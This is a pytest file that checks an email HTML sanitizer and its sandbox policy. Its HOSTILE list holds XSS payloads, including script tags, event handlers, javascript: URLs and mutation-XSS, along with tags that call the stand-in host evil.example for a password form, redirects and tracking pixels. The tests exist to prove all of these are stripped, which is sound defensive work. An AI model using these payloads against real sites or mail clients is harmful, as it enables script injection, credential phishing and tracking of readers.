"""A mail's HTML is shown without a chance to run, to call home or to look like ours."""

from __future__ import annotations

import pytest

from leadline.channels.email.tests.conftest import PAYLOADS
from leadline.channels.email.understanding.letter import Attachment, Letter
from leadline.channels.email.understanding.showing import page_of, policy_of_page

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import url(https://evil.example/a.css)</style>",
    '<div style="background:url(https://evil.example/p.gif)">x</div>',
    '<div style="position:fixed;top:0">x</div>',
    '<svg><script>alert(1)</script><image href="https://evil.example/p.gif"/></svg>',
    '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>',
    '<video src="https://evil.example/v.mp4" autoplay></video>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_of_a_hostile_mail_is_left(html: str) -> None:
    body = page_of(html).split("<body", 1)[1].lower()
    for trace in ("<script", "onerror", "onload", "javascript:", "evil.example", "<form", "position", "<svg"):
        assert trace not in body


def test_remote_pictures_stay_away_until_asked_for() -> None:
    html = '<p>Hi</p><img src="https://x.example/p.gif"><img src="//x.example/q.gif"><a href="https://y.example">y</a>'
    assert "x.example" not in page_of(html)
    assert 'src="https://x.example/p.gif"' in page_of(html, images=True)
    assert 'href="https://y.example"' in page_of(html)
    assert "https:" not in policy_of_page(images=False)


def test_pictures_that_came_along_are_shown() -> None:
    dot = Attachment(1, "dot.png", "image/png", b"\x89PNG", content_id="dot@x")
    page = Attachment(2, "page.html", "text/html", b"<script>", content_id="page@x")
    shown = page_of('<img src="cid:dot@x"><img src="cid:page@x"><img src="cid:other@x">', [dot, page])
    assert shown.count("<img") == 3
    assert shown.count("src=") == 1
    assert "data:image/png;base64,iVBORw==" in shown


def test_the_frame_runs_nothing_and_belongs_to_nobody() -> None:
    policy = policy_of_page(images=True)
    assert "default-src 'none'" in policy
    assert "sandbox allow-popups" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy


def test_the_sample_with_a_script_and_a_pixel_is_tamed() -> None:
    html = Letter((PAYLOADS / "01-new-lead.eml").read_bytes()).html
    shown = page_of(html)
    assert "budget ₹ 12 lakh" in shown
    assert "alert" not in shown
    assert "198.51.100.9" not in shown
